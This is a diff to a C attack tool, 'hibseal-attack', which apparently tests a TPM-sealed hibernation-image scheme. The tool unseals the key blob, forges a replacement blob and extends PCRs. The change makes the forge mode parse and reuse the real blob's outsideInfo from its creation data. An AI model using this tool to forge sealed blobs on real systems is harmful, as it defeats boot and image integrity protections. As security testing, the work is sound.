@@ -5,7 +5,7 @@
  *   hibseal-attack unseal DEV   load the key blob of the sealed image on DEV and try to unseal
  *                               it with a PolicyPCR session, as the kernel does inside its window
  *   hibseal-attack forge DEV    seal a known secret under the same policy (copied from the real
- *                               blob) with the same creation PCRs and label, and put that blob
+ *                               blob) with the same creation PCRs and outsideInfo, and put that blob
  *                               in the image header on DEV in place of the real one
  *   hibseal-attack extend PCR   extend PCR (SHA-256 bank) with a digest of root's: the window
  *                               PCR, say, so that sealing gives up
@@ -28,7 +28,6 @@
 #define HDR_BLOB_OFF		88		/* hibseal_image_header.key_blob */
 #define BLOB_MAX		1024
 #define PCR_MASK		((1u << 4) | (1u << 7) | (1u << 14))
-static const char label[] = "hibseal boot secret v1";
 
 struct buf {
 	uint8_t d[PAGE];
@@ -201,6 +200,8 @@ static int attack_forge(int tpm, uint8_t *hdr)
 	uint32_t blob_len = hdr[HDR_BLOB_SIZE_OFF] | hdr[HDR_BLOB_SIZE_OFF + 1] << 8;
 	const uint8_t *blob = hdr + HDR_BLOB_OFF, *end = blob + blob_len, *pub, *out;
 	size_t priv = tpm2b(blob, end), pub_len = priv ? tpm2b(blob + priv, end) : 0, i, total;
+	const uint8_t *cd, *cd_end, *info = NULL;
+	size_t info_len = 0;
 	uint8_t secret[32];
 	uint32_t primary;
 	struct buf c, r;
@@ -210,6 +211,24 @@ static int attack_forge(int tpm, uint8_t *hdr)
 	if (blob_len > BLOB_MAX || pub_len != 2 + 2 + 2 + 4 + 34 + 2 + 34)
 		return -1;
 	pub = blob + priv;
+	/*
+	 * The real creation data's outsideInfo (the label and the blob epoch bound): after the PCR
+	 * selection, pcrDigest, locality, parentNameAlg, parentName and parentQualifiedName.
+	 */
+	cd = pub + pub_len;
+	if (cd + 2 > end || cd + 2 + get(cd, 2) > end)
+		return -1;
+	cd_end = cd + 2 + get(cd, 2);
+	cd += 2 + 10;				/* size, pcrSelect */
+	for (i = 0; i < 3; i++) {		/* pcrDigest, parentName, parentQualifiedName */
+		if (cd + 2 > cd_end)
+			return -1;
+		cd += 2 + get(cd, 2) + (i == 0 ? 3 : 0);	/* locality, parentNameAlg */
+	}
+	if (cd + 2 > cd_end || cd + 2 + get(cd, 2) != cd_end)
+		return -1;
+	info = cd + 2;
+	info_len = get(cd, 2);
 	memset(secret, 0x5a, sizeof(secret));
 	rc = create_primary(tpm, &primary);
 	printf("attack: createprimary rc=0x%03lx\n", rc);
@@ -223,7 +242,7 @@ static int attack_forge(int tpm, uint8_t *hdr)
 	put(&c, 46, 2);				/* the real public area, unique left empty */
 	put_bytes(&c, pub + 2, 44);
 	put(&c, 0, 2);
-	put(&c, sizeof(label) - 1, 2); put_bytes(&c, label, sizeof(label) - 1);
+	put(&c, info_len, 2); put_bytes(&c, info, info_len);	/* the real outsideInfo */
 	pcr_selection(&c);
 	rc = transact(tpm, &c, &r);
 	printf("attack: create rc=0x%03lx\n", rc);
